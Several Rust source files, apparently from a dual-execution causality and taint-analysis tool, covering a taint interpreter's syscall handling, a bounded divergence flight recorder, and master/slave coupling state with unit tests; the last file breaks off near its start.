                sys,
                args,
                site,
            } => {
                self.exec_syscall(func, *dst, *sys, args, *site)?;
            }
            // Instrumentation instructions are no-ops for taint tracking
            // (they exist when the same instrumented program is reused).
            Instr::CntAdd { .. }
            | Instr::LoopEnter { .. }
            | Instr::LoopBackedge { .. }
            | Instr::LoopExit { .. } => {}
        }
        Ok(())
    }

    fn is_sink(&self, func: FuncId, site: SiteId, sys: Syscall, args: &[TVal]) -> bool {
        match &self.sinks {
            SinkSpec::Outputs | SinkSpec::AllWrites => sys.is_output(),
            SinkSpec::NetworkOut => sys == Syscall::Send,
            SinkSpec::FileOut => {
                sys == Syscall::Write
                    && args
                        .first()
                        .and_then(TVal::as_int)
                        .is_some_and(|fd| fd >= 3)
            }
            SinkSpec::Sites(_) => self.sink_sites.contains(&(func, site)),
        }
    }

    fn source_labels(&self, func: FuncId, site: SiteId, sys: Syscall, fd: Option<i64>) -> Labels {
        let resource = fd.and_then(|fd| self.fd_resources.get(&fd));
        let mut labels = 0;
        for (src, bit) in &self.sources {
            let hit = match src {
                ResolvedSource::FileRead(segs) => {
                    sys == Syscall::Read && matches!(resource, Some(Resource::File(p)) if p == segs)
                }
                ResolvedSource::NetRecv(host) => {
                    matches!(sys, Syscall::Recv | Syscall::Read)
                        && matches!(resource, Some(Resource::Peer(h)) if h == host)
                }
                ResolvedSource::ClientRecv(port) => {
                    matches!(sys, Syscall::Recv | Syscall::Read)
                        && matches!(resource, Some(Resource::Client(p)) if p == port)
                }
                ResolvedSource::SyscallKind(k) => sys == *k,
                ResolvedSource::Site(f, s) => func == *f && site == *s,
            };
            if hit {
                labels |= bit;
            }
        }
        labels
    }

    fn exec_syscall(
        &mut self,
        func: FuncId,
        dst: LocalId,
        sys: Syscall,
        args: &[LocalId],
        site: SiteId,
    ) -> Result<(), Trap> {
        self.syscalls += 1;
        let targs: Vec<TVal> = args.iter().map(|a| self.local(*a).clone()).collect();

        // Sink bookkeeping.
        if self.is_sink(func, site, sys, &targs) {
            self.total_sink_instances += 1;
            let labels = targs.iter().fold(0, |acc, t| acc | t.deep_labels()) | self.ctrl_labels();
            if labels != 0 {
                self.tainted_sink_instances += 1;
                self.tainted_sites.insert((func, site));
            }
        }

        match sys {
            Syscall::Lock | Syscall::Unlock => {
                self.set_local(dst, TVal::Int(0, 0));
                return Ok(());
            }
            Syscall::Exit => {
                self.exited = true;
                return Ok(());
            }
            Syscall::Spawn => {
                // Inline thread execution (sequential determinization).
                let TVal::Func(fid, _) = targs[0] else {
                    return Err(Trap::BadSpawnTarget {
                        detail: "not a function reference".into(),
                    });
                };
                let body = self.program.func(fid);
                if body.param_count != 1 {
                    return Err(Trap::BadSpawnTarget {
                        detail: "spawn targets take exactly 1 parameter".into(),
                    });
                }
                let tid = self.next_tid;
                self.next_tid += 1;
                let floor = self.activations.len();
                // Run the thread body to completion, capturing its result
                // in a scratch slot of the *current* activation.
                self.call(fid, vec![targs[1].clone()], dst)?;
                self.execute_to_depth(floor)?;
                let result = self.local(dst).clone();
                self.thread_results.insert(tid, result);
                self.set_local(dst, TVal::Int(tid, 0));
                return Ok(());
            }
            Syscall::Join => {
                let tid = targs[0].as_int().unwrap_or(-1);
                let v = self
                    .thread_results
                    .remove(&tid)
                    .ok_or(Trap::BadJoin { tid })?;
                self.set_local(dst, v);
                return Ok(());
            }
            Syscall::Setjmp | Syscall::Longjmp => {
                // The taint baselines do not model non-local jumps; treat
                // setjmp as returning 0 and longjmp as a no-op. (Workloads
                // using longjmp are evaluated with LDX only, like the
                // paper's tool-specific build failures.)
                self.set_local(dst, TVal::Int(0, 0));
                return Ok(());
            }
            _ => {}
        }

        // Virtual OS syscalls.
        let sys_args: Vec<SysArg> = targs
            .iter()
            .map(|t| match t.to_value() {
                Value::Int(i) => Ok(SysArg::Int(i)),
                Value::Str(s) => Ok(SysArg::Str(s.to_string())),
                other => Err(Trap::TypeError {
                    expected: "integer or string syscall argument",
                    found: other.type_name(),
                }),
            })
            .collect::<Result<_, _>>()?;
        let ret = self.vos.syscall(sys, &sys_args)?;

        // Track descriptors for source matching.
        match (sys, &ret) {
            (Syscall::Open, SysRet::Int(fd)) if *fd >= 0 => {
                if let Some(SysArg::Str(p)) = sys_args.first() {
                    self.fd_resources
                        .insert(*fd, Resource::File(ldx_vos::normalize_path(p)));
                }
            }
            (Syscall::Connect, SysRet::Int(fd)) if *fd >= 0 => {
                if let Some(SysArg::Str(h)) = sys_args.first() {
                    self.fd_resources.insert(*fd, Resource::Peer(h.clone()));
                }
            }
            (Syscall::Accept, SysRet::Int(fd)) if *fd >= 0 => {
                if let Some(SysArg::Int(port)) = sys_args.first() {
                    self.fd_resources.insert(*fd, Resource::Client(*port));
                }
            }
            (Syscall::Close, _) => {
                if let Some(SysArg::Int(fd)) = sys_args.first() {
                    self.fd_resources.remove(fd);
                }
            }
            _ => {}
        }

        let fd = match sys_args.first() {
            Some(SysArg::Int(fd)) => Some(*fd),
            _ => None,
        };
        let labels = self.source_labels(func, site, sys, fd);
        let value = match ret {
            SysRet::Int(i) => Value::Int(i),
            SysRet::Str(s) => Value::str(s),
        };
        self.set_local(dst, TVal::from_value(&value, labels));
        Ok(())
    }
}

/// In-place indexed store over tainted arrays.
fn store_index_tval(base: &mut TVal, index: &TVal, v: TVal) -> Result<(), Trap> {
    let Some(i) = index.as_int() else {
        return Err(Trap::TypeError {
            expected: "integer index",
            found: "other",
        });
    };
    match base {
        TVal::Arr(elems, _) => {
            let len = elems.len();
            let idx = usize::try_from(i).map_err(|_| Trap::IndexOutOfBounds { index: i, len })?;
            match elems.get_mut(idx) {
                Some(slot) => {
                    *slot = v;
                    Ok(())
                }
                None => Err(Trap::IndexOutOfBounds { index: i, len }),
            }
        }
        _ => Err(Trap::TypeError {
            expected: "array",
            found: "other",
        }),
    }
}
