//! The divergence flight recorder: a bounded, per-run structured event
//! log of every alignment-relevant fact the engine observes.
//!
//! The causality report says *that* a (source, sink) pair is causal; the
//! flight recorder keeps the evidence trail of *why*: each syscall
//! interposition decision with the master and slave progress-counter
//! values, every resource-taint / copy-on-write clone with the resource
//! id, every barrier release with the counter delta seen at release, the
//! source mutations applied, and at diverging sinks a bounded byte-level
//! diff of the payloads.
//!
//! # Determinism
//!
//! Events are kept in two *lanes*, one per [`Role`]. Master events are
//! appended only by the master execution and slave events only by the
//! slave, so for single-threaded programs each lane's order is exactly
//! the (deterministic) execution order of that role — the property
//! `ldx explain` relies on for byte-identical output across runs.
//! Timing-dependent quantities (barrier deltas) are recorded for
//! forensics but carry no ordering weight.
//!
//! # Overflow policy
//!
//! Each lane is bounded. When full, *later* events are dropped and
//! counted (`keep-earliest`): the chain of provenance — the mutation,
//! the first decoupled syscall, the first diverging sink — lives at the
//! front of the log, so the earliest window is the valuable one (the
//! opposite of the `ldx-obs` trace ring, whose newest-window policy
//! suits profiling). Dropped counts surface in [`FlightLog::dropped`]
//! and the `recorder.dropped` metric.

use crate::report::Role;
use ldx_ir::{FuncId, SiteId};
use ldx_lang::Syscall;
use ldx_runtime::{ProgressKey, ThreadKey};
use parking_lot::Mutex;
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};

/// Default per-lane event capacity: generous for every corpus workload
/// while bounding a runaway run to a few MB.
pub const DEFAULT_FLIGHT_CAPACITY: usize = 1 << 14;

/// Bytes kept of each payload excerpt (hunks, mutation values).
pub const EXCERPT_BYTES: usize = 48;

/// Collapses a progress key to a scalar (sum of frame counters and loop
/// epochs): the coarse "progress counter value" reported in events.
pub fn key_scalar(key: &ProgressKey) -> u64 {
    key.frames
        .iter()
        .map(|f| {
            f.loops
                .iter()
                .fold(f.cnt, |acc, &(_, epoch)| acc.saturating_add(epoch))
        })
        .fold(0u64, u64::saturating_add)
}

/// What the interposition layer decided for one syscall (Alg. 2 cases).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// The master executed the syscall and enqueued its outcome.
    Executed,
    /// The slave copied the master's aligned outcome.
    Shared,
    /// The slave executed against its private overlay.
    Decoupled,
    /// An aligned sink was compared (equal payloads).
    Compared,
    /// A master-only syscall the slave skipped (no alignment).
    MasterOnly,
    /// A slave-only sink (the master is provably past this key).
    SlaveOnly,
}

impl Decision {
    /// Stable lowercase name (used by the JSON export).
    pub fn name(self) -> &'static str {
        match self {
            Decision::Executed => "executed",
            Decision::Shared => "shared",
            Decision::Decoupled => "decoupled",
            Decision::Compared => "compared",
            Decision::MasterOnly => "master-only",
            Decision::SlaveOnly => "slave-only",
        }
    }
}

/// Identity of a diverged resource (paper §7 resource tainting).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum ResourceId {
    /// A filesystem path (normalized).
    Path(String),
    /// A lock id whose grant order diverged.
    Lock(i64),
    /// An outbound peer connection.
    Peer(String),
    /// An accepted client on a listening port.
    Client(i64),
}

impl fmt::Display for ResourceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ResourceId::Path(p) => write!(f, "path:{p}"),
            ResourceId::Lock(id) => write!(f, "lock:{id}"),
            ResourceId::Peer(h) => write!(f, "peer:{h}"),
            ResourceId::Client(p) => write!(f, "client:{p}"),
        }
    }
}

/// A bounded byte-level diff of two sink payloads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ByteDiff {
    /// Byte offset of the first divergence (`None` when one payload is a
    /// strict prefix of the other — a pure length mismatch).
    pub first_diff: Option<usize>,
    /// Master payload length in bytes.
    pub master_len: usize,
    /// Slave payload length in bytes.
    pub slave_len: usize,
    /// Up to [`EXCERPT_BYTES`] of the master payload around the
    /// divergence point.
    pub master_hunk: String,
    /// The matching slave excerpt.
    pub slave_hunk: String,
}

impl ByteDiff {
    /// Computes the diff of two rendered payloads. The hunks start at the
    /// divergence point (or at the shorter length for pure length
    /// mismatches) and are clipped to [`EXCERPT_BYTES`] on a char
    /// boundary.
    pub fn compute(master: &str, slave: &str) -> ByteDiff {
        let mb = master.as_bytes();
        let sb = slave.as_bytes();
        let common = mb.iter().zip(sb).take_while(|(a, b)| a == b).count();
        let first_diff = if common < mb.len() && common < sb.len() {
            Some(common)
        } else {
            None
        };
        let start = first_diff.unwrap_or_else(|| mb.len().min(sb.len()));
        ByteDiff {
            first_diff,
            master_len: mb.len(),
            slave_len: sb.len(),
            master_hunk: excerpt_at(master, start),
            slave_hunk: excerpt_at(slave, start),
        }
    }
}

/// Up to [`EXCERPT_BYTES`] of `s` starting at byte `start`, snapped onto
/// char boundaries.
fn excerpt_at(s: &str, start: usize) -> String {
    let mut begin = start.min(s.len());
    while begin > 0 && !s.is_char_boundary(begin) {
        begin -= 1;
    }
    let mut end = (begin + EXCERPT_BYTES).min(s.len());
    while end < s.len() && !s.is_char_boundary(end) {
        end += 1;
    }
    s[begin..end].to_string()
}

/// Truncates a rendered value to [`EXCERPT_BYTES`].
pub fn excerpt(s: &str) -> String {
    excerpt_at(s, 0)
}

/// One flight-recorder event. The role is implied by the lane the event
/// sits in (see [`FlightLog`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FlightEvent {
    /// A syscall interposition decision, with both progress-counter
    /// values at the point alignment was resolved. For slave decisions
    /// against an aligned entry, `master_cnt` is the entry's counter;
    /// when the slave decouples because the master is provably past,
    /// both carry the slave's counter (a lower bound on the master's).
    Syscall {
        /// What was decided.
        decision: Decision,
        /// The Lx thread (pair).
        thread: ThreadKey,
        /// Function containing the site.
        func: FuncId,
        /// The static site.
        site: SiteId,
        /// The syscall.
        sys: Syscall,
        /// Master progress-counter scalar at resolution.
        master_cnt: u64,
        /// Slave progress-counter scalar at resolution (equals
        /// `master_cnt` for master-lane `Executed` events).
        slave_cnt: u64,
        /// Whether the site is a sink under the spec.
        is_sink: bool,
    },
    /// A resource entered the tainted set (first divergence on it).
    Taint {
        /// The diverged resource.
        resource: ResourceId,
    },
    /// The overlay reconstructed a descriptor for a resource created
    /// while coupled (clone + open + seek, paper §4.2).
    CowClone {
        /// The cloned resource.
        resource: ResourceId,
        /// The coupled read/seek position replayed into the clone.
        pos: u64,
    },
    /// A loop-backedge barrier release.
    Barrier {
        /// The releasing thread.
        thread: ThreadKey,
        /// This role's progress-counter scalar at release.
        cnt: u64,
        /// How far the peer's published counter was past ours at release
        /// (0 when unknown or behind). Timing-dependent; forensic only.
        delta: u64,
    },
    /// The mutation was applied to a matched source outcome.
    Mutated {
        /// The thread that consumed the source.
        thread: ThreadKey,
        /// Function containing the source site.
        func: FuncId,
        /// The source site.
        site: SiteId,
        /// The source syscall.
        sys: Syscall,
        /// Progress-counter scalar at the mutation.
        cnt: u64,
        /// Bounded excerpt of the original outcome.
        original: String,
        /// Bounded excerpt of the mutated outcome.
        mutated: String,
    },
    /// An aligned sink compared *different* — the byte-level evidence.
    SinkDiff {
        /// The thread that reached the sink.
        thread: ThreadKey,
        /// Function containing the sink site.
        func: FuncId,
        /// The sink site.
        site: SiteId,
        /// The sink syscall.
        sys: Syscall,
        /// Progress-counter scalar at the sink.
        cnt: u64,
        /// The bounded payload diff.
        diff: ByteDiff,
    },
}

impl FlightEvent {
    /// The static site the event is anchored at, if any.
    pub fn site(&self) -> Option<(FuncId, SiteId)> {
        match self {
            FlightEvent::Syscall { func, site, .. }
            | FlightEvent::Mutated { func, site, .. }
            | FlightEvent::SinkDiff { func, site, .. } => Some((*func, *site)),
            _ => None,
        }
    }

    /// Stable lowercase kind name (used by the JSON export).
    pub fn kind(&self) -> &'static str {
        match self {
            FlightEvent::Syscall { decision, .. } => decision.name(),
            FlightEvent::Taint { .. } => "taint",
            FlightEvent::CowClone { .. } => "cow-clone",
            FlightEvent::Barrier { .. } => "barrier",
            FlightEvent::Mutated { .. } => "mutated",
            FlightEvent::SinkDiff { .. } => "sink-diff",
        }
    }
}

struct Lane {
    events: Mutex<Vec<FlightEvent>>,
    dropped: AtomicU64,
}

impl Lane {
    fn new() -> Lane {
        Lane {
            events: Mutex::new(Vec::new()),
            dropped: AtomicU64::new(0),
        }
    }
}

/// The per-run recorder. Created per `dual_execute` call (inside its
/// `Coupling`), so batch jobs can never interleave events: there is no
/// process-wide recorder state anywhere.
pub struct FlightRecorder {
    lanes: [Lane; 2],
    capacity: usize,
}

impl FlightRecorder {
    /// A recorder with `capacity` events per lane.
    pub fn new(capacity: usize) -> FlightRecorder {
        FlightRecorder {
            lanes: [Lane::new(), Lane::new()],
            capacity,
        }
    }

    fn lane(&self, role: Role) -> &Lane {
        match role {
            Role::Master => &self.lanes[0],
            Role::Slave => &self.lanes[1],
        }
    }

    /// Appends `event` to `role`'s lane (keep-earliest on overflow).
    pub fn record(&self, role: Role, event: FlightEvent) {
        let lane = self.lane(role);
        let mut events = lane.events.lock();
        if events.len() >= self.capacity {
            lane.dropped.fetch_add(1, Ordering::Relaxed);
            return;
        }
        events.push(event);
    }

    /// Drains the recorder into its final log, leaving it empty.
    pub fn drain(&self) -> FlightLog {
        FlightLog {
            master: std::mem::take(&mut *self.lanes[0].events.lock()),
            slave: std::mem::take(&mut *self.lanes[1].events.lock()),
            master_dropped: self.lanes[0].dropped.swap(0, Ordering::Relaxed),
            slave_dropped: self.lanes[1].dropped.swap(0, Ordering::Relaxed),
        }
    }
}

/// The drained flight log of one dual execution, carried on the
/// `DualReport`. Empty (and allocation-free) when recording was off.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FlightLog {
    /// Master-lane events, in master execution order.
    pub master: Vec<FlightEvent>,
    /// Slave-lane events, in slave execution order.
    pub slave: Vec<FlightEvent>,
    /// Master-lane events dropped on overflow.
    pub master_dropped: u64,
    /// Slave-lane events dropped on overflow.
    pub slave_dropped: u64,
}

impl FlightLog {
    /// Total events recorded (both lanes).
    pub fn events(&self) -> u64 {
        (self.master.len() + self.slave.len()) as u64
    }

    /// Total events dropped on overflow (both lanes).
    pub fn dropped(&self) -> u64 {
        self.master_dropped + self.slave_dropped
    }

    /// Whether anything was recorded (false when recording was off).
    pub fn is_empty(&self) -> bool {
        self.master.is_empty() && self.slave.is_empty()
    }

    /// Events of `role`'s lane.
    pub fn lane(&self, role: Role) -> &[FlightEvent] {
        match role {
            Role::Master => &self.master,
            Role::Slave => &self.slave,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(n: u64) -> FlightEvent {
        FlightEvent::Barrier {
            thread: ThreadKey::root(),
            cnt: n,
            delta: 0,
        }
    }

    #[test]
    fn lanes_are_separate_and_bounded() {
        let r = FlightRecorder::new(2);
        r.record(Role::Master, ev(0));
        r.record(Role::Slave, ev(1));
        r.record(Role::Slave, ev(2));
        r.record(Role::Slave, ev(3)); // over capacity: dropped
        let log = r.drain();
        assert_eq!(log.master.len(), 1);
        assert_eq!(log.slave.len(), 2);
        assert_eq!(log.master_dropped, 0);
        assert_eq!(log.slave_dropped, 1);
        assert_eq!(log.events(), 3);
        assert_eq!(log.dropped(), 1);
        // Keep-earliest: the surviving slave events are the first two.
        assert_eq!(log.slave, vec![ev(1), ev(2)]);
    }

    #[test]
    fn byte_diff_finds_first_divergence() {
        let d = ByteDiff::compute("payload=123", "payload=903");
        assert_eq!(d.first_diff, Some(8));
        assert_eq!(d.master_len, 11);
        assert_eq!(d.slave_len, 11);
        assert_eq!(d.master_hunk, "123");
        assert_eq!(d.slave_hunk, "903");
    }

    #[test]
    fn byte_diff_length_mismatch_has_no_divergence_offset() {
        let d = ByteDiff::compute("abc", "abcdef");
        assert_eq!(d.first_diff, None);
        assert_eq!(d.master_len, 3);
        assert_eq!(d.slave_len, 6);
        assert_eq!(d.master_hunk, "");
        assert_eq!(d.slave_hunk, "def");
    }

    #[test]
    fn excerpts_respect_char_boundaries() {
        let s = "é".repeat(EXCERPT_BYTES); // 2 bytes per char
        let e = excerpt(&s);
        assert!(e.len() <= EXCERPT_BYTES + 1);
        assert!(s.starts_with(&e));
        // A diff offset landing mid-char must not panic.
        let d = ByteDiff::compute(&s, "x");
        assert_eq!(d.first_diff, Some(0));
    }

    #[test]
    fn key_scalar_sums_frames_and_loops() {
        use ldx_runtime::ProgressKey;
        let k = ProgressKey::start();
        let base = key_scalar(&k);
        let mut k2 = k.clone();
        k2.frames[0].cnt += 5;
        assert_eq!(key_scalar(&k2), base + 5);
    }
}
