//! Shared coupling state between the master and slave executions.
//!
//! This is the runtime realization of paper §4.2: per thread-pair, the
//! master appends its syscall outcomes to a queue and publishes a *ready*
//! progress key; the slave consumes aligned outcomes, skips (and counts)
//! master-only entries, and decouples when no alignment can exist. Both
//! sides synchronize at loop backedges (§5) and publish a terminal key on
//! thread exit so the peer never blocks forever.

use crate::recorder::{
    FlightEvent, FlightLog, FlightRecorder, ResourceId, DEFAULT_FLIGHT_CAPACITY,
};
use crate::report::{CausalityRecord, Role, TraceAction, TraceEvent};
use ldx_ir::{FuncId, SiteId};
use ldx_lang::Syscall;
use ldx_runtime::{ProgressKey, StopSignal, ThreadKey, Value};
use parking_lot::{Condvar, Mutex};
use std::collections::{HashMap, HashSet, VecDeque};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// One master syscall outcome, queued for the slave.
#[derive(Debug, Clone)]
pub(crate) struct Entry {
    pub key: ProgressKey,
    pub func: FuncId,
    pub site: SiteId,
    pub sys: Syscall,
    pub args: Vec<Value>,
    pub outcome: Value,
    pub is_sink: bool,
    pub consumed: bool,
}

/// Mutable pair state (one per Lx thread pair).
#[derive(Debug, Default)]
pub(crate) struct PairInner {
    pub master_ready: Option<ProgressKey>,
    pub slave_ready: Option<ProgressKey>,
    pub queue: VecDeque<Entry>,
    pub master_done: bool,
    pub slave_done: bool,
}

/// A thread pair's synchronization cell.
#[derive(Debug, Default)]
pub(crate) struct Pair {
    pub inner: Mutex<PairInner>,
    pub cv: Condvar,
}

impl Pair {
    /// Publishes a ready key for `role` and wakes waiters.
    pub fn publish(&self, role: Role, key: ProgressKey) {
        let mut inner = self.inner.lock();
        let slot = match role {
            Role::Master => &mut inner.master_ready,
            Role::Slave => &mut inner.slave_ready,
        };
        *slot = Some(key);
        drop(inner);
        self.cv.notify_all();
    }

    /// Marks `role`'s thread as finished (terminal progress).
    pub fn finish(&self, role: Role) {
        let mut inner = self.inner.lock();
        match role {
            Role::Master => {
                inner.master_done = true;
                inner.master_ready = Some(ProgressKey::top());
            }
            Role::Slave => {
                inner.slave_done = true;
                inner.slave_ready = Some(ProgressKey::top());
            }
        }
        drop(inner);
        self.cv.notify_all();
    }
}

/// Counters shared by the two wrappers.
#[derive(Debug, Default)]
pub(crate) struct CouplingStats {
    /// Outcomes shared master → slave.
    pub shared: AtomicU64,
    /// Slave syscalls executed decoupled.
    pub decoupled: AtomicU64,
    /// Non-sink syscall differences (master-only + slave-decoupled).
    pub diffs: AtomicU64,
    /// Sink instances the master executed.
    pub master_sinks: AtomicU64,
}

/// All shared state of one dual execution.
pub(crate) struct Coupling {
    pairs: Mutex<HashMap<ThreadKey, Arc<Pair>>>,
    pub master_exec_done: AtomicBool,
    pub slave_exec_done: AtomicBool,
    pub records: Mutex<Vec<CausalityRecord>>,
    pub trace: Option<Mutex<Vec<TraceEvent>>>,
    pub stats: CouplingStats,
    /// Paths with diverged state (paper §7 resource tainting).
    pub tainted_paths: Mutex<HashSet<String>>,
    /// Lock ids with diverged synchronization (paper §7).
    pub tainted_locks: Mutex<HashSet<i64>>,
    /// The divergence flight recorder (`None` when recording is off — the
    /// disabled probe is a single discriminant check, no atomics).
    pub recorder: Option<FlightRecorder>,
}

impl Coupling {
    /// Creates coupling state; `trace` enables alignment-trace recording,
    /// `record` enables the flight recorder.
    pub fn new(trace: bool, record: bool) -> Self {
        Coupling {
            pairs: Mutex::new(HashMap::new()),
            master_exec_done: AtomicBool::new(false),
            slave_exec_done: AtomicBool::new(false),
            records: Mutex::new(Vec::new()),
            trace: trace.then(|| Mutex::new(Vec::new())),
            stats: CouplingStats::default(),
            tainted_paths: Mutex::new(HashSet::new()),
            tainted_locks: Mutex::new(HashSet::new()),
            recorder: record.then(|| FlightRecorder::new(DEFAULT_FLIGHT_CAPACITY)),
        }
    }

    /// Records a flight event into `role`'s lane. The closure is only
    /// evaluated when the recorder is on, so disabled probes cost nothing.
    #[inline]
    pub fn flight(&self, role: Role, event: impl FnOnce() -> FlightEvent) {
        if let Some(r) = &self.recorder {
            r.record(role, event());
        }
    }

    /// Drains the flight recorder (empty log when recording was off).
    pub fn take_flight_log(&self) -> FlightLog {
        self.recorder
            .as_ref()
            .map(FlightRecorder::drain)
            .unwrap_or_default()
    }

    /// The pair cell for thread `t`, created on first use by either side.
    pub fn pair(&self, t: &ThreadKey) -> Arc<Pair> {
        let mut pairs = self.pairs.lock();
        if let Some(p) = pairs.get(t) {
            return Arc::clone(p);
        }
        let p = Arc::new(Pair::default());
        // If one whole execution already finished, threads it never spawned
        // must not be waited for.
        {
            let mut inner = p.inner.lock();
            if self.master_exec_done.load(Ordering::SeqCst) {
                inner.master_done = true;
                inner.master_ready = Some(ProgressKey::top());
            }
            if self.slave_exec_done.load(Ordering::SeqCst) {
                inner.slave_done = true;
                inner.slave_ready = Some(ProgressKey::top());
            }
        }
        pairs.insert(t.clone(), Arc::clone(&p));
        p
    }

    /// Marks a whole execution as finished, releasing every waiter.
    pub fn finish_execution(&self, role: Role) {
        match role {
            Role::Master => self.master_exec_done.store(true, Ordering::SeqCst),
            Role::Slave => self.slave_exec_done.store(true, Ordering::SeqCst),
        }
        for pair in self.pairs.lock().values() {
            pair.finish(role);
        }
    }

    /// Records a causality detection.
    pub fn record(&self, record: CausalityRecord) {
        self.records.lock().push(record);
    }

    /// Appends a trace event, if tracing is enabled.
    pub fn trace_event(&self, event: TraceEvent) {
        if let Some(t) = &self.trace {
            t.lock().push(event);
        }
    }

    /// Convenience trace constructor.
    pub fn trace_syscall(
        &self,
        role: Role,
        thread: &ThreadKey,
        key: &ProgressKey,
        sys: Option<Syscall>,
        action: TraceAction,
    ) {
        if self.trace.is_some() {
            self.trace_event(TraceEvent {
                role,
                thread: thread.clone(),
                key: key.clone(),
                sys,
                action,
            });
        }
    }

    /// Marks a filesystem path as tainted, recording the first divergence
    /// on each path as a flight event (in the slave lane: only the slave's
    /// decoupled execution taints).
    pub fn taint_path(&self, path: &str) {
        let normalized = ldx_vos::normalize_path(path).join("/");
        let first = self.tainted_paths.lock().insert(normalized.clone());
        if first {
            self.flight(Role::Slave, || FlightEvent::Taint {
                resource: ResourceId::Path(normalized),
            });
        }
    }

    /// Marks a lock id as tainted (grant order diverged), recording the
    /// first divergence as a flight event.
    pub fn taint_lock(&self, id: i64) {
        let first = self.tainted_locks.lock().insert(id);
        if first {
            self.flight(Role::Slave, || FlightEvent::Taint {
                resource: ResourceId::Lock(id),
            });
        }
    }

    /// Whether a path is tainted.
    pub fn path_tainted(&self, path: &str) -> bool {
        self.tainted_paths
            .lock()
            .contains(&ldx_vos::normalize_path(path).join("/"))
    }

    /// Drains every unconsumed master entry at the end of the run:
    /// master-only syscall differences, including master-only sinks.
    /// Pairs are drained in `ThreadKey` order so records and flight
    /// events land deterministically.
    pub fn reconcile(&self) {
        let pairs = self.pairs.lock();
        let mut ordered: Vec<(&ThreadKey, &Arc<Pair>)> = pairs.iter().collect();
        ordered.sort_by(|a, b| a.0.cmp(b.0));
        for (thread, pair) in ordered {
            let mut inner = pair.inner.lock();
            while let Some(entry) = inner.queue.pop_front() {
                if entry.consumed {
                    continue;
                }
                self.flight(Role::Master, || {
                    let cnt = crate::recorder::key_scalar(&entry.key);
                    FlightEvent::Syscall {
                        decision: crate::recorder::Decision::MasterOnly,
                        thread: thread.clone(),
                        func: entry.func,
                        site: entry.site,
                        sys: entry.sys,
                        master_cnt: cnt,
                        slave_cnt: cnt,
                        is_sink: entry.is_sink,
                    }
                });
                if entry.is_sink {
                    self.record(CausalityRecord {
                        kind: crate::report::CausalityKind::MasterOnlySink,
                        thread: thread.clone(),
                        key: entry.key.clone(),
                        func: entry.func,
                        site: entry.site,
                        sys: entry.sys,
                    });
                } else {
                    self.stats.diffs.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
    }
}

/// Waits on `pair` until `cond` holds, the stop signal fires, or roughly
/// `max_wait` elapses. Returns whether the condition held.
pub(crate) fn wait_until(
    pair: &Pair,
    stop: &StopSignal,
    max_wait: Duration,
    mut cond: impl FnMut(&PairInner) -> bool,
) -> bool {
    let start = std::time::Instant::now();
    let mut inner = pair.inner.lock();
    loop {
        if cond(&inner) {
            return true;
        }
        if stop.should_stop() || start.elapsed() > max_wait {
            return cond(&inner);
        }
        pair.cv.wait_for(&mut inner, Duration::from_millis(2));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_runtime::ProgressOrder;

    #[test]
    fn pair_publish_and_finish() {
        let c = Coupling::new(false, false);
        let t = ThreadKey::root();
        let p = c.pair(&t);
        p.publish(Role::Master, ProgressKey::start());
        assert!(p.inner.lock().master_ready.is_some());
        p.finish(Role::Slave);
        let inner = p.inner.lock();
        assert!(inner.slave_done);
        assert!(inner.slave_ready.as_ref().unwrap().is_top());
    }

    #[test]
    fn pair_created_after_execution_end_is_released() {
        let c = Coupling::new(false, false);
        c.finish_execution(Role::Master);
        let p = c.pair(&ThreadKey::root().child(3));
        assert!(p.inner.lock().master_done);
    }

    #[test]
    fn finish_execution_releases_existing_pairs() {
        let c = Coupling::new(false, false);
        let p = c.pair(&ThreadKey::root());
        assert!(!p.inner.lock().master_done);
        c.finish_execution(Role::Master);
        assert!(p.inner.lock().master_done);
    }

    #[test]
    fn taint_normalizes_paths() {
        let c = Coupling::new(false, false);
        c.taint_path("/a//b/");
        assert!(c.path_tainted("a/b"));
        assert!(!c.path_tainted("/a"));
    }

    #[test]
    fn wait_until_releases_on_stop() {
        let c = Coupling::new(false, false);
        let p = c.pair(&ThreadKey::root());
        let stop = StopSignal::new();
        stop.request_exit(0);
        let held = wait_until(&p, &stop, Duration::from_secs(5), |i| i.master_done);
        assert!(!held);
    }

    #[test]
    fn wait_until_observes_condition() {
        let c = Arc::new(Coupling::new(false, false));
        let p = c.pair(&ThreadKey::root());
        let p2 = Arc::clone(&p);
        let h = std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(10));
            p2.publish(Role::Master, ProgressKey::top());
        });
        let stop = StopSignal::new();
        let held = wait_until(&p, &stop, Duration::from_secs(5), |i| {
            i.master_ready
                .as_ref()
                .is_some_and(|k| k.cmp_progress(&ProgressKey::start()) == ProgressOrder::Ahead)
        });
        assert!(held);
        h.join().unwrap();
    }

    #[test]
    fn reconcile_counts_master_only_entries() {
        let c = Coupling::new(false, false);
        let t = ThreadKey::root();
        let p = c.pair(&t);
        {
            let mut inner = p.inner.lock();
            inner.queue.push_back(Entry {
                key: ProgressKey::start(),
                func: FuncId(0),
                site: SiteId(0),
                sys: Syscall::Read,
                args: vec![],
                outcome: Value::Int(0),
                is_sink: false,
                consumed: false,
            });
            inner.queue.push_back(Entry {
                key: ProgressKey::start(),
                func: FuncId(0),
                site: SiteId(1),
                sys: Syscall::Send,
                args: vec![],
                outcome: Value::Int(0),
                is_sink: true,
                consumed: false,
            });
        }
        c.reconcile();
        assert_eq!(c.stats.diffs.load(Ordering::Relaxed), 1);
        assert_eq!(c.records.lock().len(), 1);
    }
}
