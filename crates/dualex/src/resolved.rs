//! Source/sink specs resolved against a concrete program.

use crate::mutation::Mutation;
use crate::spec::{DualSpec, SinkSpec, SourceMatcher, SourceSpec};
use ldx_ir::{FuncId, IrProgram, SiteId};
use ldx_lang::Syscall;
use ldx_runtime::Value;
use std::collections::HashSet;

/// A source matcher with names resolved to ids.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum ResolvedMatcher {
    FileRead(Vec<String>),
